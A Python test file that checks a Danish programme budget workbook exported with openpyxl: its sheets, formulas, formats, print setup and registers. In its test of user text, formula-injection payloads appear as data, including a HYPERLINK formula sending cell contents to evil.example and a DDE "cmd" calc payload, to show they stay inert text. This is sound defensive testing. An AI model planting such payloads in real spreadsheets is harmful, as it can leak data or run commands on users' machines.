"""The budget workbook holds the DDNS table as finance staff need it (checked with openpyxl)."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from portfolio.budgets import excel_texts as t
from portfolio.budgets.excel_cells import put_text
from portfolio.budgets.workbook import build_budget_workbook, workbook_filename

from .workbook_factories import ddns_rows, ddns_with_two_versions, ddns_workbook
from .xlsx_helpers import header_columns

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def load(content: bytes, **options):
    return load_workbook(io.BytesIO(content), **options)


def test_sheets_in_order_and_properties():
    content = build_budget_workbook(ddns_workbook())
    wb = load(content)
    assert wb.sheetnames == [
        "Budget",
        "Prognose",
        "Forbrug",
        "Afvigelse",
        "Versioner",
        "Om",
        "Risici",
        "Gevinster",
    ]
    assert all(len(name) <= 31 and not set(name) & set(":\\/?*[]") for name in wb.sheetnames)
    assert wb.properties.creator == "Styrbord"
    assert wb.properties.title == "Budget – Samlet indsats for data i det nære sundhedsvæsen"
    utc = dt.datetime(2025, 3, 14, 9, 26, 53, tzinfo=dt.UTC).replace(tzinfo=None)
    assert (wb.properties.created, wb.properties.modified) == (utc, utc)


def test_same_input_gives_the_same_bytes():
    first = build_budget_workbook(ddns_workbook())
    assert build_budget_workbook(ddns_workbook()) == first
    stamps = {info.date_time for info in zipfile.ZipFile(io.BytesIO(first)).infolist()}
    assert stamps == {(2025, 3, 14, 9, 26, 52)}  # zip times have 2-second steps


def test_budget_sheet_has_the_ddns_table_with_live_sums_and_printed_totals():
    ws = load(build_budget_workbook(ddns_workbook()))["Budget"]
    assert [c.value for c in ws[4]] == [
        "Nr.",
        "Række",
        "2023",
        "2024",
        "2025",
        "2026",
        "I alt (2023–2026)",
        "Varigt",
        "Trykt i programgrundlaget",
        "Afvigelse (afrunding)",
    ]
    assert [ws.cell(r, 3).value for r in range(5, 10)] == [2.9, 1.5, 0.5, 2.7, 0.7]
    assert ws["B6"].value == "Spor 2: Nationalt datagrundlag for almen praksis"
    assert ws["G6"].value == "=ROUND(SUM(C6:F6),3)"
    assert ws["I6"].value == 12.4
    assert ws["J6"].value == "=ROUND(I6-G6,3)"
    assert [c.value for c in ws[10]][1:8] == [
        "I alt",
        "=ROUND(SUM(C5:C9),3)",
        "=ROUND(SUM(D5:D9),3)",
        "=ROUND(SUM(E5:E9),3)",
        "=ROUND(SUM(F5:F9),3)",
        "=ROUND(SUM(G5:G9),3)",
        "=ROUND(SUM(H5:H9),3)",
    ]
    assert ws["B11"].value == "Trykt i programgrundlaget"
    assert [ws.cell(11, c).value for c in range(3, 9)] == [8.3, 11.3, 19.3, 19.3, 58.1, 11.3]
    assert ws["B12"].value == "Afvigelse (afrunding)"
    assert ws["D12"].value == "=ROUND(D11-D10,3)"
    # Every amount and sum shows one decimal, like the programme basis.
    assert {ws.cell(r, c).number_format for r in range(5, 13) for c in range(3, 11)} - {
        "General"
    } == {"0.0"}
    notes = [ws.cell(r, 1).value for r in range(14, ws.max_row + 1)]
    assert notes[0] == "Noter"
    assert any(n and n.startswith("Programgrundlagets trykte totaler er afrundede") for n in notes)
    assert any(n and n.startswith("Række 5: Den femte rækkes etiket") for n in notes)
    assert any(n and n.startswith("Ovenstående tabel indeholder") for n in notes)


def test_more_decimals_get_a_wider_number_format():
    ws = load(build_budget_workbook(ddns_with_two_versions()))["Budget"]
    assert ws["F9"].value == 2.75
    assert ws["F9"].number_format == "0.00"
    assert ws["G9"].number_format == "0.00"


def test_forecast_and_actual_sheets_share_the_budget_layout():
    rows = ddns_rows(forecast={1: {"2023": Decimal("3.1")}}, actual={2: {"varigt": Decimal("0")}})
    wb = load(build_budget_workbook(ddns_workbook(rows=rows)))
    budget, forecast, actual = wb["Budget"], wb["Prognose"], wb["Forbrug"]
    for ws in (forecast, actual):
        assert [c.value for c in ws[4]] == [c.value for c in budget[4]][:8]
        assert [ws.cell(r, 2).value for r in range(5, 11)] == [
            budget.cell(r, 2).value for r in range(5, 11)
        ]
        assert ws["G5"].value == '=IF(COUNT(C5:F5)=0,"",ROUND(SUM(C5:F5),3))'
        assert ws.freeze_panes == "C5"
    assert forecast["C5"].value == 3.1
    assert forecast["D5"].value is None  # no forecast is an empty cell, not 0
    assert actual["H6"].value == 0


def test_variance_sheet_refers_to_the_other_sheets():
    ws = load(build_budget_workbook(ddns_workbook()))["Afvigelse"]
    assert ws["A3"].value == "Prognose minus godkendt budget (mio. kr.)"
    assert ws["C5"].value == '=IF(Prognose!C5="","",ROUND(Prognose!C5-Budget!C5,3))'
    # Like with like, as on the page: no "I alt" column, and the "I alt" row adds only the
    # rows that have a figure (its per cent is of their budget).
    assert ws["G5"].value is None and ws["G10"].value is None
    assert ws["C10"].value == '=IF(COUNT(C5:C9)=0,"",ROUND(SUM(C5:C9),3))'
    assert ws["C19"].value == (
        '=IF(OR(C10="",SUMPRODUCT((Prognose!C5:C9<>"")*Budget!C5:C9)=0),"",'
        'ROUND(C10/SUMPRODUCT((Prognose!C5:C9<>"")*Budget!C5:C9),4))'
    )
    assert ws["A12"].value == "Prognose minus godkendt budget (pct. af budget)"
    assert ws["C14"].value == '=IF(OR(C5="",Budget!C5=0),"",ROUND(C5/Budget!C5,4))'
    assert ws["C14"].number_format == "0.0%"
    assert ws["A21"].value == "Forbrug minus godkendt budget (mio. kr.)"
    assert ws["C23"].value == '=IF(Forbrug!C5="","",ROUND(Forbrug!C5-Budget!C5,3))'


def test_versions_sheet_shows_each_version_and_the_change():
    ws = load(build_budget_workbook(ddns_with_two_versions()))["Versioner"]
    assert [c.value for c in ws[3]][:6] == [
        "Version",
        "Godkendt",
        "Godkendt af",
        "Dokument",
        "Begrundelse",
        "Beslutning",
    ]
    assert [ws.cell(4, c).value for c in (1, 3, 4, 5)] == [
        1,
        "National bestyrelse for data på sundheds- og ældreområdet",
        "Programgrundlag v. 1.0",
        "Programgrundlaget godkendt.",
    ]
    assert ws.cell(4, 2).value.date() == dt.date(2023, 1, 18)
    assert ws.cell(5, 6).value == "Midler flyttes fra 2024 til 2025."
    column_a = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)]
    assert (
        "Version 1, godkendt 18. januar 2023 af National bestyrelse for data på sundheds- og "
        "ældreområdet" in column_a
    )
    assert "Ændring fra version 1 til version 2" in column_a
    change = column_a.index("Ændring fra version 1 til version 2") + 1
    assert ws.cell(change + 3, 4).value.startswith("=ROUND(D")  # row 2, 2024


def test_about_and_registers():
    wb = load(build_budget_workbook(ddns_workbook()))
    about = {wb["Om"].cell(r, 1).value: wb["Om"].cell(r, 2).value for r in range(3, 20)}
    assert about["Program"] == "Samlet indsats for data i det nære sundhedsvæsen"
    assert about["Enhed"] == "mio. kr."
    assert about["Eksporteret"] == "14. marts 2025 kl. 10:26"  # Danish time
    assert about["Eksporteret af"] == "Økonomi & Styring <okonomi@example.dk>"
    assert about["Basisversion"].startswith("1, godkendt 18. januar 2023 af National")
    assert about["Kildedokument"].startswith("Programgrundlag for Samlet indsats")
    risks, benefits = wb["Risici"], wb["Gevinster"]
    assert [c.value for c in risks[3]][:3] == ["Kode", "Titel", "Beskrivelse"]
    assert [c.value for c in risks[5]][:7][::6] == ["R2", 6]
    assert risks.auto_filter.ref == "A3:J5"
    assert [c.value for c in benefits[5]] == [
        "GH3",
        "Planlægning og styring",
        "Økonomisk gevinst, Samfundsøkonomisk gevinst",
        "Bedre grundlag.",
        "Samfundet",
        "Gevinstejer A/S",
    ]


def test_empty_registers_say_so():
    wb = load(build_budget_workbook(ddns_workbook(risks=[], benefits=[])))
    assert wb["Risici"]["A4"].value == "Der er ingen risici registreret."
    assert wb["Gevinster"]["A4"].value == "Der er ingen gevinster registreret."


def test_print_setup_on_every_sheet():
    wb = load(build_budget_workbook(ddns_workbook()))
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.page_setup.paperSize == 9, ws.title  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0), ws.title
        assert ws.oddHeader.left.text == "Samlet indsats for data i det nære sundhedsvæsen"
        assert ws.oddHeader.right.text == "Basisversion 1"
        assert ws.oddFooter.left.text == (
            "Eksporteret 14. marts 2025 kl. 10:26 af Økonomi && Styring <okonomi@example.dk>"
        )
        assert ws.oddFooter.right.text == "Side &P af &N"
        assert ws.print_area, ws.title
    budget = wb["Budget"]
    assert budget.print_title_rows == "$4:$4"
    assert budget.print_area == f"'Budget'!$A$1:$J${budget.max_row}"
    assert budget.freeze_panes == "C5"
    assert budget.column_dimensions["B"].width > 40


def test_long_names_keep_the_header_within_excels_limit():
    data = ddns_workbook(programme_name="Meget langt programnavn & mere " * 20)
    ws = load(build_budget_workbook(data))["Budget"]
    header = ws.HeaderFooter.oddHeader
    assert len(header.left.text) + len(header.center.text) + len(header.right.text) + 9 <= 255


def test_user_text_that_looks_like_a_formula_stays_text():
    rows = [
        row.__class__(**{**row.__dict__, "label": INJECTIONS[i]})
        for i, row in enumerate(ddns_rows())
    ]
    wb = load(build_budget_workbook(ddns_workbook(rows=rows, exported_by="=cmd|'/C calc'!A0")))
    for ws in (wb["Budget"], wb["Prognose"], wb["Afvigelse"]):
        labels = [ws.cell(r, 2) for r in range(5, 10)]
        assert [c.value for c in labels] == INJECTIONS
        assert {c.data_type for c in labels} == {"s"}
        assert all(c.quotePrefix for c in labels)
    about = wb["Om"]
    exported_by = next(
        about.cell(r, 2) for r in range(3, 20) if about.cell(r, 1).value == "Eksporteret af"
    )
    assert (exported_by.value, exported_by.data_type) == ("=cmd|'/C calc'!A0", "s")


def test_put_text_cleans_what_a_cell_cannot_hold():
    ws = load(build_budget_workbook(ddns_workbook()))["Om"]
    cell = put_text(ws["D1"], "a\x00b\x07c")
    assert cell.value == "abc"
    cell = put_text(ws["D2"], "x" * 40_000)
    assert len(cell.value) == 32_767
    cell = put_text(ws["D3"], "Almindelig tekst")
    assert (cell.data_type, cell.quotePrefix) == ("s", False)


def test_workbook_filename():
    assert workbook_filename("ddns", dt.date(2025, 3, 14)) == "ddns-budget-2025-03-14.xlsx"
    assert workbook_filename("../x y", dt.date(2025, 1, 2)) == "x-y-budget-2025-01-02.xlsx"


def test_headers_are_read_back_by_text():
    ws = load(build_budget_workbook(ddns_workbook()))["Budget"]
    assert header_columns(ws, 4)[t.HEADER_PRINTED] == 9
